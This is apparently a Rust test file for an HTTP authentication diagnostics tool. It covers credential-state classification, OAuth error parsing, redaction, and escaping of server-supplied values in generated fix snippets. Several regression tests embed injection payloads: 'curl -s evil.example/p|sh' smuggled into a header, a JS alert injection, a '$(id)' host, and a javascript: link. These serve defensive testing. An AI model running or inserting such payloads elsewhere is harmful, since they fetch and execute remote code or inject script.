use super::*;
use crate::catalogue::FindingId;
use crate::correlate::Correlation;
use crate::model::{Capture, Exchange, Header, Headers};
use std::borrow::Cow;

fn capture(
    status: u16,
    req: Vec<(&'static str, &'static str)>,
    res: Vec<(&'static str, &'static str)>,
) -> Capture<'static> {
    crate::testkit::single(status, req, res)
}

/// The findings of this module for the capture's only exchange, and its credential state.
fn run(cap: &Capture<'_>) -> (Vec<Finding>, CredentialState) {
    let corr = Correlation::build(cap);
    let ex = cap.exchanges.first().unwrap();
    let ctx = Ctx::new(cap, &corr, 0, ex);
    let mut out = Vec::new();
    check(&ctx, &mut out);
    (out, CredentialFacts::new(&ctx).state)
}

#[test]
fn a_worker_made_request_points_at_the_fetch_handler() {
    for by_worker in [true, false] {
        let mut cap = capture(401, vec![("Accept", "*/*")], vec![("WWW-Authenticate", "Bearer realm=\"api\"")]);
        cap.exchanges[0].fetched_by_worker = by_worker;
        let (findings, _) = run(&cap);
        let f = findings.iter().find(|f| f.id == FindingId::NoCredentialsSent).expect("found");
        assert_eq!(f.explanation.contains("service worker made this request"), by_worker, "{}", f.explanation);
        assert_eq!(f.fix.summary.contains("service worker"), by_worker, "{}", f.fix.summary);
    }
}

#[test]
fn basic_password_never_leaves_redacted() {
    // "Aladdin:open sesame"
    let cap = capture(
        401,
        vec![("Authorization", "Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==")],
        vec![("WWW-Authenticate", "Basic realm=\"WallyWorld\"")],
    );
    let (findings, state) = run(&cap);
    assert_eq!(state, CredentialState::Rejected);
    let json = serde_json::to_string(&findings).unwrap();
    assert!(!json.contains("open sesame"), "{json}");
    assert!(!json.contains("QWxhZGRpbjpvcGVuIHNlc2FtZQ"), "{json}");
    assert!(findings.iter().any(|f| f.id == FindingId::BasicCredentialsInvalid));
}

#[test]
fn credential_state_table() {
    // (name, status, request headers, expected state)
    type Row = (&'static str, u16, Vec<(&'static str, &'static str)>, CredentialState);
    let rows: Vec<Row> = vec![
        ("nothing sent", 401, vec![("Accept", "*/*")], CredentialState::Missing),
        ("blank authorization is nothing", 401, vec![("Authorization", "  ")], CredentialState::Missing),
        ("token refused", 401, vec![("Authorization", "Bearer abcdefghijkl")], CredentialState::Rejected),
        ("cookie forbidden", 403, vec![("Cookie", "sid=1")], CredentialState::Rejected),
        ("api key accepted", 200, vec![("X-API-Key", "k")], CredentialState::Sent),
        ("proxy refused", 407, vec![("Authorization", "Basic QTpi")], CredentialState::Rejected),
    ];
    for (name, status, req, want) in rows {
        assert_eq!(run(&capture(status, req, vec![])).1, want, "{name}");
    }
}

#[test]
fn proxy_challenges_are_parsed_once_into_the_context() {
    let cap =
        capture(407, vec![], vec![("Proxy-Authenticate", "Basic realm=\"corp\""), ("WWW-Authenticate", "Bearer")]);
    let corr = Correlation::build(&cap);
    let ctx = Ctx::new(&cap, &corr, 0, &cap.exchanges[0]);
    assert_eq!(ctx.proxy_challenges.challenges.iter().map(|c| c.scheme).collect::<Vec<_>>(), ["Basic"]);
    assert!(run(&cap).0.iter().any(|f| f.id == FindingId::ProxyAuthRequired));
}

#[test]
fn missing_credentials_and_quiet_200() {
    let cap = capture(401, vec![("Accept", "*/*")], vec![("WWW-Authenticate", "Bearer")]);
    assert_eq!(run(&cap).1, CredentialState::Missing);
    // An ordinary 200 produces nothing and costs nothing.
    let ok = capture(200, vec![("Authorization", "Bearer abcdefghijkl")], vec![("Content-Type", "application/json")]);
    assert!(run(&ok).0.is_empty());
}

#[test]
fn hostile_exchanges_do_not_panic() {
    let values = ["", "\u{0}", "Basic", "Basic ====", "Digest \"", "Bearer \"", "é", "eyJ.eyJ.", "x=\"\\"];
    for v in values {
        for status in [0, 302, 400, 401, 403, 407, 431] {
            let cap = Capture {
                exchanges: vec![Exchange {
                    method: Cow::Borrowed("POST"),
                    url: Cow::Borrowed("https://u:p@h/oauth/token?redirect_uri=%ZZ&access_token=x"),
                    status,
                    request_headers: Headers(vec![Header::new("authorization", v), Header::new("cookie", v)]),
                    response_headers: Headers(vec![
                        Header::new("www-authenticate", v),
                        Header::new("proxy-authenticate", v),
                        Header::new("location", v),
                    ]),
                    response_body: Some(Cow::Borrowed(v)),
                    request_body: Some(Cow::Borrowed("grant_type=")),
                    ..Default::default()
                }],
                ..Default::default()
            };
            let _ = run(&cap);
        }
    }
}

/// Issue 8: the payload of the issue, in `resource_metadata`, stays one single-quoted shell word.
#[test]
fn hostile_resource_metadata_stays_one_shell_word() {
    let cap = capture(
        401,
        vec![],
        vec![("WWW-Authenticate", "Bearer resource_metadata=\"x'; curl -s evil.example/p|sh; echo '\"")],
    );
    let (findings, _) = run(&cap);
    let f = findings.iter().find(|f| f.id == FindingId::ResourceMetadataAdvertised).expect("found");
    assert_eq!(
        f.fix.snippets[0].code,
        r#"curl -s 'x'\''; curl -s evil.example/p|sh; echo '\''' | jq '{authorization_servers, scopes_supported, resource}'"#
    );
}

/// Issue 8: a required scope cannot close the JS string it is written into.
#[test]
fn hostile_scope_stays_one_js_string() {
    let cap = capture(
        403,
        vec![("Authorization", "Bearer abc.def")],
        vec![("WWW-Authenticate", "Bearer error=\"insufficient_scope\", scope=\"a'});alert(1);//\\\"\"")],
    );
    let (findings, _) = run(&cap);
    let f = findings.iter().find(|f| f.id == FindingId::BearerInsufficientScope).expect("found");
    let code = &f.fix.snippets[0].code;
    assert_eq!(code, r#"auth.loginWithRedirect({ scope: "openid a'});alert(1);//\"" });"#);
}

/// Issue 8: a host with shell and JSON metacharacters (a URL host may hold them) stays quoted.
#[test]
fn hostile_host_stays_quoted_in_negotiate_snippets() {
    let mut cap = capture(401, vec![], vec![("WWW-Authenticate", "Negotiate")]);
    cap.exchanges[0].url = Cow::Borrowed("https://a'$(id)\"x.corp/");
    let (findings, _) = run(&cap);
    let f = findings.iter().find(|f| f.id == FindingId::NegotiateNotAttempted).expect("found");
    let code = |lang: &str| f.fix.snippets.iter().find(|s| s.lang == lang).map(|s| s.code.as_str()).unwrap_or("");
    assert_eq!(code("shell"), r#"setspn -S 'HTTP/a'\''$(id)"x.corp' svc-account"#);
    assert!(code("json").starts_with(r#"{ "AuthServerAllowlist": "a'$(id)\"x.corp" }"#), "{}", code("json"));
}

/// The key headers are read once, into the context: the rules' first non-blank key and the
/// views' full list come from the same scan.
#[test]
fn key_headers_are_read_once_into_the_context() {
    let cap = capture(401, vec![("X-API-Key", " "), ("Api-Key", "k1"), ("Accept", "*/*")], vec![]);
    let corr = Correlation::build(&cap);
    let ctx = Ctx::new(&cap, &corr, 0, &cap.exchanges[0]);
    assert_eq!(ctx.api_keys.iter().map(|k| k.name).collect::<Vec<_>>(), ["X-API-Key", "Api-Key"]);
    assert_eq!(ctx.creds.api_key_header.as_deref(), Some("api-key"));
    assert_eq!(CredentialFacts::new(&ctx).api_keys, ctx.api_keys);
}

/// Issue 8 item 5: the server's own text (`error_description`) is evidence, never part of our
/// sentences, so a report renders it as quoted code, not as live Markdown.
#[test]
fn server_text_stays_in_its_own_field() {
    let hostile = "![x](https://evil.example/px.gif) [click](javascript:alert(1))";
    let challenge: &'static str = Box::leak(
        format!("Bearer realm=\"api\", error=\"invalid_token\", error_description=\"{hostile}\"").into_boxed_str(),
    );
    let cap = capture(401, vec![("Authorization", "Bearer abc.def")], vec![("WWW-Authenticate", challenge)]);
    let (findings, _) = run(&cap);
    let f = findings.iter().find(|f| f.id == FindingId::BearerInvalidToken).expect("found");
    assert!(!f.explanation.contains("evil.example"), "{}", f.explanation);
    assert!(f.explanation.contains("quoted under Evidence"), "{}", f.explanation);
    let said = f.evidence.iter().find(|e| e.label == rejected::SERVER_SAID).expect("server text as evidence");
    assert_eq!(said.value, hostile);
    // Near miss: no description, no "Server said" evidence and no pointer to it.
    let cap = capture(
        401,
        vec![("Authorization", "Bearer abc.def")],
        vec![("WWW-Authenticate", "Bearer realm=\"api\", error=\"invalid_token\"")],
    );
    let (findings, _) = run(&cap);
    let f = findings.iter().find(|f| f.id == FindingId::BearerInvalidToken).expect("found");
    assert!(f.evidence.iter().all(|e| e.label != rejected::SERVER_SAID) && !f.explanation.contains("Evidence"));
}

/// DIAGNOSES §0.7 rule 2: a 401 in a HAR exported without credential headers is not left silent;
/// the likely cause comes at warn, saying what would confirm it.
#[test]
fn a_sanitized_capture_is_never_silent_on_a_401() {
    let mut cap =
        capture(401, vec![("Accept", "application/json")], vec![("WWW-Authenticate", "Bearer realm=\"api\"")]);
    cap.credential_headers_removed = true;
    let (findings, _) = run(&cap);
    let f = findings.iter().find(|f| f.id == FindingId::NoCredentialsSent).expect("reported");
    assert_eq!(f.severity, crate::catalogue::Severity::Warn);
    assert!(f.explanation.contains("Export again with sensitive data"), "{}", f.explanation);
    // Near miss: the server's error= says a token was presented, so nothing is missing.
    let mut cap = capture(
        401,
        vec![("Accept", "application/json")],
        vec![("WWW-Authenticate", "Bearer realm=\"api\", error=\"invalid_token\"")],
    );
    cap.credential_headers_removed = true;
    let (findings, _) = run(&cap);
    assert!(findings.iter().all(|f| f.id != FindingId::NoCredentialsSent), "{findings:?}");
}

/// A token-endpoint POST answered `status` with `body`, the request's form `form`.
fn token_call(status: u16, form: &'static str, body: &'static str) -> Capture<'static> {
    let mut cap = capture(status, vec![("Content-Type", "application/x-www-form-urlencoded")], vec![]);
    let ex = &mut cap.exchanges[0];
    ex.method = Cow::Borrowed("POST");
    ex.url = Cow::Borrowed("https://id.example.com/realms/app/protocol/openid-connect/token");
    ex.request_body = Some(Cow::Borrowed(form));
    ex.response_body = Some(Cow::Borrowed(body));
    cap
}

/// RFC 6749 §5.2: the client-registration codes, with 400, 401 and the 403 some providers use.
#[test]
fn token_endpoint_client_refusals_are_read_from_the_body() {
    let cases = [
        (401, r#"{"error":"invalid_client"}"#, Some("invalid_client")),
        (
            400,
            r#"{"error":"unauthorized_client","error_description":"Client not allowed for direct access grants"}"#,
            Some("unauthorized_client"),
        ),
        (403, r#"{"error":"invalid_scope"}"#, Some("invalid_scope")),
        // Near misses: another code, and no JSON at all.
        (400, r#"{"error":"invalid_request"}"#, None),
        (400, "Bad Request", None),
    ];
    for (status, body, want) in cases {
        let (findings, _) = run(&token_call(status, "grant_type=client_credentials&client_id=svc", body));
        let got = findings.iter().find(|f| f.id == FindingId::OauthInvalidClient);
        match want {
            Some(code) => {
                let f = got.unwrap_or_else(|| panic!("{status} {body}: {findings:?}"));
                assert!(f.evidence.iter().any(|e| e.label == "error" && e.value == code), "{f:?}");
                assert!(f.explanation.contains("client_credentials"), "{}", f.explanation);
            }
            None => assert!(got.is_none(), "{status} {body}: {findings:?}"),
        }
    }
    let (findings, _) =
        run(&token_call(403, "grant_type=refresh_token&refresh_token=r", r#"{"error":"invalid_grant"}"#));
    assert!(findings.iter().any(|f| f.id == FindingId::OauthInvalidGrant), "403 invalid_grant: {findings:?}");
}

/// RFC 6749 §4.1.2.1: the authorization endpoint's refusal comes back in the redirect's query.
#[test]
fn authorize_redirect_errors_are_read() {
    let mut cap = capture(
        302,
        vec![],
        vec![(
            "Location",
            "https://app.example.com/callback?error=unauthorized_client&error_description=Grant%20not%20enabled&state=xyz",
        )],
    );
    cap.exchanges[0].url = Cow::Borrowed("https://id.example.com/authorize?client_id=spa&response_type=code&state=xyz");
    let (findings, _) = run(&cap);
    let f = findings.iter().find(|f| f.id == FindingId::OauthInvalidClient).expect("read from Location");
    assert!(f.evidence.iter().any(|e| e.value == "Grant not enabled"), "{f:?}");
    // The callback itself, when the redirect was not captured.
    let mut cb = capture(200, vec![], vec![]);
    cb.exchanges[0].url = Cow::Borrowed("https://app.example.com/callback?error=invalid_scope&state=xyz");
    assert!(run(&cb).0.iter().any(|f| f.id == FindingId::OauthInvalidClient));
    // Near misses: an ordinary page with error= but no OAuth state; the user declining consent.
    let mut plain = capture(200, vec![], vec![]);
    plain.exchanges[0].url = Cow::Borrowed("https://app.example.com/search?error=invalid_scope");
    assert!(run(&plain).0.iter().all(|f| f.id != FindingId::OauthInvalidClient));
    let mut denied =
        capture(302, vec![], vec![("Location", "https://app.example.com/callback?error=access_denied&state=xyz")]);
    denied.exchanges[0].url = Cow::Borrowed("https://id.example.com/authorize?client_id=spa");
    assert!(run(&denied).0.iter().all(|f| f.id != FindingId::OauthInvalidClient));
}

/// The extension never sees response bodies: a refused refresh is still named, at warn, as the
/// likeliest code, saying what would confirm it; a refused code grant is not guessed.
#[test]
fn a_refused_refresh_without_its_body_is_named_at_warn() {
    let mut cap = token_call(400, "grant_type=refresh_token&refresh_token=r1&client_id=spa", "");
    cap.exchanges[0].response_body = None;
    let (findings, _) = run(&cap);
    let f = findings.iter().find(|f| f.id == FindingId::OauthInvalidGrant).expect("named");
    assert_eq!(f.severity, crate::catalogue::Severity::Warn);
    assert!(f.explanation.contains("cannot read"), "{}", f.explanation);
    let mut code = token_call(400, "grant_type=authorization_code&code=c1", "");
    code.exchanges[0].response_body = None;
    assert!(run(&code).0.iter().all(|f| f.id != FindingId::OauthInvalidGrant));
    let mut ok = token_call(401, "grant_type=refresh_token&refresh_token=r1", "");
    ok.exchanges[0].response_body = None;
    assert!(run(&ok).0.iter().all(|f| f.id != FindingId::OauthInvalidGrant), "401 is invalid_client's status");
}
